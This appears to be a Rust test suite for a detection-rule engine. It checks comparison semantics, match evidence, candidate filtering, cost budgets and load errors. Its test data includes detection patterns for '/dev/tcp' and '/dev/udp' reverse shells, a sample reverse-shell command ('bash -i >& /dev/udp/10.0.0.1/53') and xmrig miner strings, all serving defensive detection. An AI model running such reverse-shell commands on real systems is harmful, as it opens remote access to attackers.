//! What rules mean, what they say about a match, and what they may cost.

use daemoneye_engine::{BatchError, Engine, LoadError};
use daemoneye_plan::{Builder, Case, ColumnType, Comparison, Literal, Pattern, Plan, Test};
use daemoneye_sdk::rules::{Batch, Column, Evidence, Verdict};

const STEPS: u64 = 100_000;

fn column(values: &[&str]) -> Column {
    Column::Text(values.iter().map(|value| Some((*value).to_owned())).collect())
}

fn like(plan: &mut Builder, column: &str, pattern: &str) -> daemoneye_plan::NodeId {
    let operand = plan.column(column, ColumnType::Text);
    let clause = plan.clause(&format!("{column} LIKE '{pattern}'"));
    let pattern = Pattern::like(pattern, None).expect("no escape");
    plan.leaf(Some(clause), Test::Like { operand, pattern, case: Case::Ignored })
}

fn one_like(column: &str, pattern: &str) -> Plan {
    let mut plan = Builder::new();
    like(&mut plan, column, pattern);
    plan.finish().expect("a leaf")
}

fn engine(plans: Vec<Plan>) -> Engine {
    let plans = plans.into_iter().enumerate().map(|(id, plan)| (format!("rule-{id}"), plan));
    Engine::load(plans.collect()).expect("loads")
}

fn judge(engine: &Engine, columns: Vec<Column>, rows: u32, steps: u64) -> Vec<Verdict> {
    let scan = engine.open(Batch::new(rows, columns)).expect("the declared columns");
    let rules = 0..u32::try_from(engine.declaration().rules.len()).expect("few rules");
    let all: Vec<u32> = (0..rows).collect();
    rules.map(|rule| scan.evaluate(rule, &all, steps)).collect()
}

fn rows(verdict: &Verdict) -> Vec<u32> {
    verdict.findings.iter().map(|finding| finding.row).collect()
}

fn piece(clause: &str, field: &str, value: &str) -> Evidence {
    Evidence { clause: clause.into(), field: field.into(), value: value.into() }
}

/// Whether a column with this value compares so with the literal; nothing is NULL.
fn compare(value: &Literal, comparison: Comparison, right: &Literal) -> Option<bool> {
    let (column_type, column) = match value {
        Literal::Integer(number) => (ColumnType::Integer, Column::Integers(vec![Some(*number)])),
        Literal::Text(text) => (ColumnType::Text, column(&[text])),
        _ => (ColumnType::Text, Column::Absent),
    };
    let [is, is_not] = [false, true].map(|negated| {
        let mut plan = Builder::new();
        let (left, right) = (plan.column("column", column_type), plan.literal(right.clone()));
        let test = Test::Compare { comparison, left, right, case: Case::Ignored };
        let leaf = plan.leaf(None, test);
        if negated {
            plan.not(None, leaf);
        }
        plan.finish().expect("a tree")
    });
    let verdicts = judge(&engine(vec![is, is_not]), vec![column], 1, STEPS);
    match (rows(&verdicts[0]).len(), rows(&verdicts[1]).len()) {
        (0, 0) => None,
        (is, is_not) => Some((is, is_not) == (1, 0)),
    }
}

#[test]
fn comparisons_convert_and_fold_as_sqlite_does() {
    use Comparison::{Equal, Greater, Less, NotEqual};
    let text = |text: &str| Literal::Text(text.into());
    let table = [
        (text("Bash"), Equal, text("bASH"), Some(true)),
        (text("bash"), NotEqual, text("zsh"), Some(true)),
        (text("B"), Less, text("c"), Some(true)),
        (text("É"), Equal, text("é"), Some(false)),
        (text("10"), Equal, Literal::Integer(10), Some(true)),
        (text("10.0"), Equal, Literal::Integer(10), Some(false)),
        (text("9"), Less, Literal::Integer(10), Some(false)),
        (text("1.5"), Equal, Literal::Float(1.5), Some(true)),
        (Literal::Integer(10), Equal, text("10"), Some(true)),
        (Literal::Integer(10), Equal, text(" 10.0 "), Some(true)),
        (Literal::Integer(9), Less, text("10"), Some(true)),
        (Literal::Integer(9), Less, text("ten"), Some(true)),
        (Literal::Integer(9), Greater, Literal::Float(8.5), Some(true)),
        (Literal::Integer(9), Equal, Literal::Null, None),
        (Literal::Null, Equal, text(""), None),
        (Literal::Null, NotEqual, text("x"), None),
    ];
    for (left, comparison, right, expected) in table {
        let words = format!("{left:?} {comparison:?} {right:?}");
        assert_eq!(compare(&left, comparison, &right), expected, "{words}");
    }
}

#[test]
fn evidence_names_what_made_the_row_match_in_the_order_of_the_rule() {
    let mut plan = Builder::new();
    let view = plan.column("kind", ColumnType::Text);
    let list = vec![Literal::Text("start".into()), Literal::Text("exec".into())];
    let view = plan.leaf(None, Test::In { operand: view, list, case: Case::Ignored });
    let tcp = like(&mut plan, "command_line", "%/dev/tcp/%");
    let udp = like(&mut plan, "command_line", "%/dev/udp/%");
    let either = plan.or(vec![tcp, udp]);
    let clause = plan.clause("name NOT LIKE 'cron%'");
    let (operand, pattern) = (plan.column("name", ColumnType::Text), Pattern::like("cron%", None));
    let pattern = pattern.expect("no escape");
    let cron = Test::Like { operand, pattern, case: Case::Ignored };
    let cron = plan.leaf(Some(clause), cron);
    let not_cron = plan.not(Some(clause), cron);
    plan.and(vec![view, either, not_cron]);
    let engine = engine(vec![plan.finish().expect("a tree")]);
    assert_eq!(engine.declaration().columns, ["kind", "command_line", "name"]);

    let commands = ["bash -i >& /dev/udp/10.0.0.1/53", "x > /DEV/TCP/h/1", "/dev/tcp/h/1"];
    let columns = vec![
        column(&["exec", "START", "stop"]),
        column(&commands),
        column(&["bash", "cron", "sh"]),
    ];
    let verdicts = judge(&engine, columns, 3, STEPS);
    assert_eq!(rows(&verdicts[0]), [0]);
    let expected = [
        piece("command_line LIKE '%/dev/udp/%'", "command_line", commands[0]),
        piece("name NOT LIKE 'cron%'", "name", "bash"),
    ];
    assert_eq!(verdicts[0].findings[0].evidence, expected);
}

#[test]
fn the_view_is_judged_before_any_rule() {
    let mut plan = Builder::new();
    let (kind, start) = (plan.column("kind", ColumnType::Text), Literal::Text("start".into()));
    let right = plan.literal(start);
    let (comparison, case) = (Comparison::Equal, Case::Ignored);
    let view = plan.leaf(None, Test::Compare { comparison, left: kind, right, case });
    let open = {
        let operand = plan.column("command_line", ColumnType::Text);
        plan.leaf(None, Test::Regexp { operand, expression: ".".into(), case })
    };
    plan.and(vec![view, open]);
    let engine = engine(vec![plan.finish().expect("a tree")]);
    let columns = vec![column(&["stop", "start", "stop"]), column(&["a", "b", "c"])];
    let scan = engine.open(Batch::new(3, columns)).expect("the declared columns");
    assert_eq!(scan.candidates()[0].rows, [1]);
}

#[test]
fn values_that_repeat_are_candidates_in_every_row() {
    let engine = engine(vec![one_like("command_line", "%xmrig%"), one_like("command_line", "%sh")]);
    let values: Vec<&str> = (0..1_000).map(|n| if n % 3 == 0 { "./XMRig" } else { "ls" }).collect();
    let batch = Batch::new(1_000, vec![column(&values)]);
    let candidates = engine.open(batch).expect("the declared columns").candidates();
    assert_eq!(candidates.len(), 1);
    assert_eq!(candidates[0].rows, (0..1_000).step_by(3).collect::<Vec<_>>());
}

#[test]
fn any_number_of_texts_in_a_command_line_of_1_mib_stay_in_budget() {
    let long = "a".repeat(1 << 20);
    let mut plan = Builder::new();
    let nodes = (0..500).map(|number| like(&mut plan, "command_line", &format!("%xmrig{number}%")));
    let nodes = nodes.collect();
    plan.or(nodes);
    let engine = engine(vec![plan.finish().expect("a tree")]);
    let verdicts = judge(&engine, vec![column(&[&long, "xmrig7 -o pool", "ls"])], 3, STEPS);
    assert_eq!((rows(&verdicts[0]), &*verdicts[0].over_budget), (vec![1], &[][..]));
}

#[test]
fn a_command_line_of_1_mib_costs_only_the_rules_that_must_read_it_all() {
    let long = "a".repeat(1 << 20);
    let mut plan = Builder::new();
    let nodes =
        ["%x_m_r_i_g%", "%m_i_n_e_r_d%"].map(|pattern| like(&mut plan, "command_line", pattern));
    plan.or(nodes.to_vec());
    let engine = engine(vec![one_like("command_line", "%xmrig%"), plan.finish().expect("a tree")]);
    let verdicts = judge(&engine, vec![column(&[&long, "xmrig -o x.m.r.i.g", "ls"])], 3, STEPS);
    assert_eq!((rows(&verdicts[0]), &*verdicts[0].over_budget), (vec![1], &[][..]));
    assert_eq!((rows(&verdicts[1]), &*verdicts[1].over_budget), (vec![1], &[0][..]));
}

#[test]
fn a_regular_expression_pays_for_each_byte() {
    let mut plan = Builder::new();
    let operand = plan.column("command_line", ColumnType::Text);
    plan.leaf(None, Test::Regexp { operand, expression: "a+b".into(), case: Case::Observed });
    let engine = engine(vec![plan.finish().expect("a leaf")]);
    // The node, each byte, and a sixteenth of them to see whether it is worth while.
    let (within, beyond) = ("a".repeat(93), "a".repeat(94));
    let verdicts = judge(&engine, vec![column(&[&within, &beyond, "aab"])], 3, 100);
    assert_eq!((rows(&verdicts[0]), &*verdicts[0].over_budget), (vec![2], &[1][..]));
}

#[test]
fn plans_that_do_not_fit_together_are_refused_by_name() {
    let regex = |expression: &str| {
        let mut plan = Builder::new();
        let operand = plan.column("pid", ColumnType::Integer);
        let (expression, case) = (expression.to_owned(), Case::Observed);
        plan.leaf(None, Test::Regexp { operand, expression, case });
        plan.finish().expect("a leaf")
    };
    let load = |plans: [(&str, Plan); 2]| {
        Engine::load(plans.map(|(id, plan)| (id.to_owned(), plan)).into()).expect_err("refused")
    };
    let like = || one_like("name", "x");
    assert!(matches!(load([("a", like()), ("a", like())]), LoadError::Repeated(id) if id == "a"));
    let error = load([("a", regex("x")), ("b", one_like("pid", "x"))]);
    assert!(matches!(error, LoadError::ColumnType { column, .. } if column == "pid"));
    for expression in ["(", r"(\pL{100}){100}"] {
        let error = load([("a", like()), ("b", regex(expression))]);
        assert!(error.to_string().starts_with("rule \"b\" has the regular expression"), "{error}");
    }
}

#[test]
fn a_batch_that_does_not_fit_its_declaration_is_refused() {
    let engine = engine(vec![one_like("name", "x")]);
    let open = |columns| engine.open(Batch::new(2, columns)).err();
    assert_eq!(open(vec![]), Some(BatchError::Columns { found: 0, declared: 1 }));
    assert_eq!(open(vec![column(&["x"])]), Some(BatchError::Misfit(0)));
    assert_eq!(open(vec![column(&["x", "y"])]), None);
    assert_eq!(open(vec![Column::Absent]), None);
}
